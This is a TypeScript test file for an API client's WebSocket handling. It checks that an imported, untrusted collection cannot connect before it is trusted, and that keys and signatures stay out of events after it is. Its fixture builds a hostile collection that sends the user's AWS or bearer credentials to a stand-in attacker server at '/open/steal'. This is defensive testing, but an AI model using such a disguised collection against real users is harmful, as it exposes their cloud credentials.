import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { WebSocketEvent } from '../../shared/contract/websocket';
import { createCore, type Core } from '../../electron/core/create-core';
import { createDispatcher, type Dispatcher } from '../../electron/ipc/dispatcher';
import { createHandlers } from '../../electron/ipc/handlers';
import { makeTempDir } from '../support/temp-dir';
import { startWebSocketEchoServer, type WebSocketEchoServer } from '../support/websocket-echo-server';

// The user's identity, found by the default chain on this machine.
const USER_KEYS = { accessKeyId: 'AKIAUSERIDENTITY0002', secretAccessKey: 'userSecret/WebSocket0000000000000000000' };

let attacker: WebSocketEchoServer;
let core: Core;
let dispatcher: Dispatcher;
let temp: ReturnType<typeof makeTempDir>;
const events: WebSocketEvent[] = [];
const context = {
  emit: (name: string, payload: unknown) => void (name === 'websocket:event' && events.push(payload as WebSocketEvent)),
};

beforeEach(async () => {
  // The attacker accepts any handshake (paths under /open/) and keeps every header and query.
  attacker = await startWebSocketEchoServer([]);
  temp = makeTempDir();
  core = createCore({
    host: 'test',
    version: '0.0.0-test',
    dataDir: temp.dir,
    env: { AWS_ACCESS_KEY_ID: USER_KEYS.accessKeyId, AWS_SECRET_ACCESS_KEY: USER_KEYS.secretAccessKey },
  });
  dispatcher = createDispatcher(createHandlers(core));
  events.length = 0;
});
afterEach(async () => {
  await core.close();
  await attacker.close();
  temp.remove();
});

/** A Shomei collection file whose WebSocket request points at the attacker and signs with the user's identity. */
function hostileFile(auth: unknown): string {
  return JSON.stringify({
    format: 'shomei.collection',
    formatVersion: 1,
    collection: {
      id: 'hostile',
      name: 'Totally legit chat',
      settings: { auth, variables: [{ id: 'v1', name: 'token', value: 'a-token-from-the-file' }] },
      items: [
        {
          kind: 'request',
          id: 'sock',
          name: 'Chat',
          method: 'GET',
          url: `${attacker.origin}/open/steal`,
          auth: { type: 'inherit' },
          websocket: { messages: [{ format: 'json', text: '{"action":"hello"}' }] },
        },
      ],
    },
  });
}

describe('an imported, untrusted WebSocket request', () => {
  it.each([
    ['the user’s AWS identity', { type: 'aws-sigv4', credentialSource: { source: 'env' }, isQuerySigned: true }],
    ['the default chain', { type: 'aws-sigv4', credentialSource: { source: 'default-chain' } }],
    ['a bearer token from a variable', { type: 'bearer', tokenRef: { kind: 'variables', text: '{{token}}' } }],
  ])('is refused before any handshake when it would use %s', async (_what, auth) => {
    const imported = await dispatcher.dispatch('import:run', { text: hostileFile(auth) }, context);
    if (!imported.ok) throw new Error(imported.error.message);
    const { collectionId } = imported.value as { collectionId: string };
    const saved = core.collections.getRequest('sock').request;
    expect(saved.websocket?.messages).toHaveLength(1);
    expect(core.collections.isTrusted(collectionId)).toBe(false);
    const { kind: _k, id: _i, ...draft } = saved;
    const answer = await dispatcher.dispatch(
      'websocket:connect',
      { connectionId: 'x1', request: draft, savedRequestId: 'sock' },
      context,
    );
    expect(answer).toMatchObject({ ok: false, error: { code: 'UNTRUSTED' } });
    if (answer.ok) throw new Error('connected');
    expect(answer.error.message).toMatch(
      /^Not connected: the collection "Totally legit chat" was imported and is not trusted yet/,
    );
    // Nothing reached the attacker; no event told the window anything.
    expect(attacker.handshakes).toEqual([]);
    expect(events).toEqual([]);
  });

  it('once trusted, connects; the events the window sees hold no key, token or signature', async () => {
    const imported = await dispatcher.dispatch(
      'import:run',
      {
        text: hostileFile({
          type: 'aws-sigv4',
          credentialSource: { source: 'env' },
          region: 'us-east-1',
          service: 'execute-api',
          isQuerySigned: true,
        }),
      },
      context,
    );
    if (!imported.ok) throw new Error(imported.error.message);
    core.collections.trust((imported.value as { collectionId: string }).collectionId);
    const { kind: _k, id: _i, ...draft } = core.collections.getRequest('sock').request;
    const answer = await dispatcher.dispatch(
      'websocket:connect',
      { connectionId: 'x2', request: draft, savedRequestId: 'sock' },
      context,
    );
    expect(answer).toMatchObject({ ok: true });
    // The server echoes what it gets; a malicious one could echo the handshake's query back.
    const target = attacker.handshakes[0]?.target ?? '';
    await dispatcher.dispatch(
      'websocket:send',
      { connectionId: 'x2', message: { format: 'text', text: `you sent ${target}` } },
      context,
    );
    await expect.poll(() => events.some((e) => e.direction === 'received')).toBe(true);
    const signature = new URLSearchParams(target.split('?')[1]).get('X-Amz-Signature') ?? 'none';
    const shown = JSON.stringify([answer, events]);
    expect(shown).not.toContain(USER_KEYS.secretAccessKey);
    expect(shown).not.toContain(signature);
  });
});
